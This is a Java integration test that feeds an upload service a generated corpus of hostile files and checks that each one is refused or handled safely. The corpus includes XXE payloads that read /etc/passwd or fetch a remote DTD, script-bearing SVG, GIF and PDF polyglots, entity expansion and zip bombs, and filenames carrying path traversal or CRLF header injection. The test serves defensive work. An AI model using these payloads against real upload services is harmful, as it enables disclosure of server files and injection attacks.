package org.caunoi.document;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.FilterInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Random;
import java.util.UUID;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.caunoi.IntegrationTest;
import org.caunoi.NeedsNothing;
import org.caunoi.Walk;
import org.caunoi.shared.Refused;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.test.context.TestPropertySource;

/**
 * Some two hundred files nobody should send, made here: archives in archives, pictures that claim
 * to be huge, scripts as pictures, two kinds in one, names that read backwards. Each is refused or
 * taken as a plain picture or paper, soon, and stays in no memory.
 */
@IntegrationTest
@TestPropertySource(properties = "caunoi.test=forms")
@NeedsNothing
class UploadCorpusTest {

  private static final Duration LONGEST = Duration.ofSeconds(2);

  /** Looking at the heap stops everything in this process, so few tests may do it. */
  private static final boolean NIGHTLY = Boolean.getBoolean("caunoi.sweep.nightly");

  private static final long MOST_GROWTH = 64L << 20;

  private static final List<String> NAMES =
      List.of(
          "giay.pdf",
          "giay.pdf.exe",
          "giay\u202Efdp.exe",
          "giay\r\nSet-Cookie: a=b.pdf",
          "../../etc/passwd",
          "giay\u0000.pdf",
          "con.pdf",
          "a".repeat(300) + ".pdf");

  @Autowired private StoreDocument storing;
  @Autowired private Walk walk;

  private final StoredDocument taken =
      new StoredDocument(UUID.randomUUID(), "-", MediaKind.PDF, 1, "-", 1, null, null, 0, "-");

  private interface Store {
    StoredDocument take(InputStream content, String name, String authority);
  }

  /** What was wrong, and how many were taken and refused. */
  private record Seen(List<String> wrong, int taken, int refused) {}

  @Test
  void everyOneIsRefusedOrMadeHarmlessSoon() throws IOException {
    Map<String, Content> corpus = corpus();
    long before = live();
    Seen seen = upload(corpus, storing::store);
    long growth = live() - before;
    System.out.printf(
        "Uploads: %d files, %d refused, %d taken as plain papers, %d KB stayed%n",
        corpus.size(), seen.refused, seen.taken, growth / 1024);
    assertThat(corpus).hasSizeGreaterThan(200);
    assertThat(seen.wrong).isEmpty();
    assertThat(seen.refused).isGreaterThan(150);
    assertThat(growth).isLessThan(MOST_GROWTH);
  }

  /** A house that goes by names, is slow, or holds what it is sent, would make this test red. */
  @Test
  void aHouseThatTakesWhatItGetsWouldBeNoticed() throws IOException {
    Map<String, Content> all = corpus();
    Map<String, Content> some = new LinkedHashMap<>();
    for (String one : List.of("office with entity", "zip in zip 3", "many entries")) {
      some.put(one, Objects.requireNonNull(all.get(one)));
    }
    if (NIGHTLY) {
      // What other tests let go of meanwhile must not hide it.
      some.put("many entries", () -> new ManyEntries(3_000_000));
    }
    List<byte[]> held = new ArrayList<>();
    Seen seen =
        upload(
            some,
            (content, name, authority) -> {
              try {
                held.add(content.readAllBytes());
              } catch (IOException e) {
                throw new UncheckedIOException(e);
              }
              return taken;
            });
    assertThat(held).hasSize(3);
    assertThat(seen.wrong)
        .anyMatch(line -> line.startsWith("office with entity was taken"))
        .anyMatch(line -> line.startsWith("zip in zip 3 was taken"))
        .anyMatch(
            line -> line.startsWith(NIGHTLY ? "many entries held" : "many entries was taken"));
  }

  private Seen upload(Map<String, Content> corpus, Store store) throws IOException {
    String authority = walk.authority();
    List<String> wrong = new ArrayList<>();
    int took = 0;
    int refused = 0;
    for (Map.Entry<String, Content> one : corpus.entrySet()) {
      String name = NAMES.get((took + refused) % NAMES.size());
      long start = System.nanoTime();
      Watched content =
          new Watched(one.getValue().open(), NIGHTLY && one.getKey().equals("many entries"));
      try (content) {
        StoredDocument stored = store.take(content, name, authority);
        took++;
        if (mustBeRefused(one.getKey())) {
          wrong.add("%s was taken as %s".formatted(one.getKey(), stored.kind()));
        }
      } catch (Refused no) {
        refused++;
        if (no.code().contains("\r") || no.code().contains("passwd")) {
          wrong.add(one.getKey() + " is said back");
        }
      }
      long spent = System.nanoTime() - start - content.looking;
      if (spent > LONGEST.toNanos()) {
        wrong.add("%s took %d ms".formatted(one.getKey(), spent / 1_000_000));
      }
      if (content.growth() > MOST_GROWTH) {
        wrong.add("%s held %d MB".formatted(one.getKey(), content.growth() >> 20));
      }
    }
    return new Seen(wrong, took, refused);
  }

  /** A file that need not be in memory. */
  private interface Content {
    InputStream open() throws IOException;
  }

  /**
   * Looks at the heap at each so many megabytes of what is read, and at the end of a large file.
   */
  private static final class Watched extends FilterInputStream {

    private static final long EACH = 16L << 20;

    private long read;
    private long next = EACH;
    private final long first;
    private long most;
    private long looking;

    Watched(InputStream content, boolean large) {
      super(content);
      first = large ? live() : 0;
    }

    @Override
    public int read() throws IOException {
      int one = super.read();
      count(one < 0 ? -1 : 1);
      return one;
    }

    @Override
    public int read(byte[] bytes, int offset, int length) throws IOException {
      long start = System.nanoTime();
      int n = super.read(bytes, offset, length);
      looking += System.nanoTime() - start;
      count(n);
      return n;
    }

    private void count(int n) {
      read += Math.max(0, n);
      if (read >= next || (n < 0 && read >= EACH)) {
        next += EACH;
        if (first == 0) {
          return;
        }
        long start = System.nanoTime();
        long now = live();
        looking += System.nanoTime() - start;
        most = Math.max(most, now);
      }
    }

    private long growth() {
      return first == 0 ? 0 : most - first;
    }
  }

  private static boolean mustBeRefused(String what) {
    return !what.startsWith("behind") && !what.startsWith("damaged");
  }

  private static Map<String, Content> corpus() throws IOException {
    Map<String, Content> corpus = new LinkedHashMap<>();
    small().forEach((what, bytes) -> corpus.put(what, () -> new ByteArrayInputStream(bytes)));
    corpus.put("many entries", () -> new ManyEntries(1_000_000));
    return corpus;
  }

  private static Map<String, byte[]> small() throws IOException {
    Map<String, byte[]> all = new LinkedHashMap<>();
    Map<String, byte[]> good =
        Map.of(
            "pdf", Samples.pdf(1),
            "jpeg", Samples.jpeg(),
            "jpeg in passes", Samples.progressiveJpeg(),
            "png", Samples.png());
    texts().forEach((what, text) -> all.put(what, text.getBytes(StandardCharsets.UTF_8)));
    byte[] zip = Samples.zip();
    for (int depth = 1; depth <= 12; depth++) {
      zip = zipped("inner-" + depth + ".zip", zip);
      all.put("zip in zip " + depth, zip);
    }
    all.put("office with entity", office());
    all.put("gzip", gzipped(new byte[1 << 20]));
    for (int size : new int[] {30_000, 50_000, 65_535, 1 << 20, Integer.MAX_VALUE}) {
      all.put("png claiming " + size, Samples.pngClaiming(size, size));
      all.put("jpeg claiming " + size, Samples.jpegClaiming(Math.min(size, 65_535), 65_535));
    }
    // Something else in front of a good file, or behind it.
    List<byte[]> others =
        new ArrayList<>(texts().values().stream().map(UploadCorpusTest::utf8).toList());
    others.add(Samples.zip());
    others.addAll(good.values());
    int n = 0;
    for (byte[] other : others) {
      for (Map.Entry<String, byte[]> file : good.entrySet()) {
        n++;
        if (!startsLikeOne(other)) {
          all.put("in front of " + file.getKey() + " " + n, Samples.joined(other, file.getValue()));
        }
        all.put("behind " + file.getKey() + " " + n, Samples.joined(file.getValue(), other));
      }
    }
    Random random = new Random(2026);
    for (Map.Entry<String, byte[]> file : good.entrySet()) {
      for (int i = 0; i < 30; i++) {
        byte[] damaged = file.getValue().clone();
        for (int k = 0; k < 5; k++) {
          damaged[random.nextInt(damaged.length)] = (byte) random.nextInt(256);
        }
        all.put("damaged " + file.getKey() + " " + i, damaged);
      }
    }
    return all;
  }

  /** What begins with something that is no picture and no paper. */
  private static Map<String, String> texts() {
    Map<String, String> texts = new LinkedHashMap<>();
    texts.put("nothing", "");
    texts.put(
        "eicar", "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-" + "STANDARD-ANTIVIRUS-TEST-FILE!$H+H*");
    texts.put("svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>");
    texts.put(
        "svg with entity", "<!DOCTYPE s [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg>&x;</svg>");
    texts.put("laughs", "<!DOCTYPE l [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;'>]><l>&b;</l>");
    texts.put("html", "<html><script>alert(1)</script></html>");
    texts.put("script", "#!/bin/sh\nid\n");
    texts.put("program", "MZ\u0000\u0001\u0002");
    texts.put("elf", "\u007fELF\u0002\u0001\u0001");
    texts.put("rtf", "{\\rtf1\\object\\objdata 01}");
    texts.put("office", "PK\u0003\u0004[Content_Types].xml");
    texts.put("postscript", "%!PS-Adobe-3.0\n(%stdout) (w) file\n");
    texts.put("gif", "GIF89a/*<script>alert(1)</script>*/=1;");
    texts.put("bmp", "BM\u0000\u0000\u0000");
    texts.put("webp", "RIFF\u0000\u0000\u0000\u0000WEBPVP8 ");
    texts.put("tiff", "II*\u0000\u0008");
    texts.put(
        "mvg", "push graphic-context\nfill 'url(https://thu.invalid)'\npop graphic-context\n");
    texts.put("phar", "<?php __HALT_COMPILER(); ?>");
    texts.put("jsp", "<%= 1 %>");
    texts.put("mail", "MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<b>");
    texts.put("shortcut", "[InternetShortcut]\nURL=file:///etc/passwd\n");
    texts.put("pdf in lower case", "%pdf-1.4\n");
    texts.put("pdf head only", "%PDF-1.4\n%%EOF");
    texts.put(
        "pdf that runs",
        "%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF");
    return texts;
  }

  private static boolean startsLikeOne(byte[] other) {
    String start = new String(other, 0, Math.min(5, other.length), StandardCharsets.ISO_8859_1);
    return start.isEmpty()
        || start.startsWith("%PDF-")
        || start.startsWith("\u00ff\u00d8\u00ff")
        || start.startsWith("\u0089PNG");
  }

  private static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  private static byte[] zipped(String name, byte[] content) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      zip.putNextEntry(new ZipEntry(name));
      zip.write(content);
    }
    return bytes.toByteArray();
  }

  /** A word processor's file whose text asks for a file of the house. */
  private static byte[] office() throws IOException {
    Map<String, String> parts = new LinkedHashMap<>();
    parts.put(
        "[Content_Types].xml",
        """
        <?xml version="1.0" encoding="UTF-8"?>
        <Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
        <Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
        <Override PartName="/word/document.xml"
          ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>
        """);
    parts.put(
        "_rels/.rels",
        """
        <?xml version="1.0" encoding="UTF-8"?>
        <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"
          Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
          Target="word/document.xml"/></Relationships>
        """);
    parts.put(
        "word/document.xml",
        """
        <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
        <!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "http://thu.invalid/y.dtd"> %y;]>
        <w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
        <w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>
        """);
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      for (Map.Entry<String, String> part : parts.entrySet()) {
        zip.putNextEntry(new ZipEntry(part.getKey()));
        zip.write(utf8(part.getValue()));
      }
    }
    return bytes.toByteArray();
  }

  private static byte[] gzipped(byte[] content) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (GZIPOutputStream gzip = new GZIPOutputStream(bytes)) {
      gzip.write(content);
    }
    return bytes.toByteArray();
  }

  private static long live() {
    System.gc();
    Runtime runtime = Runtime.getRuntime();
    return runtime.totalMemory() - runtime.freeMemory();
  }
}
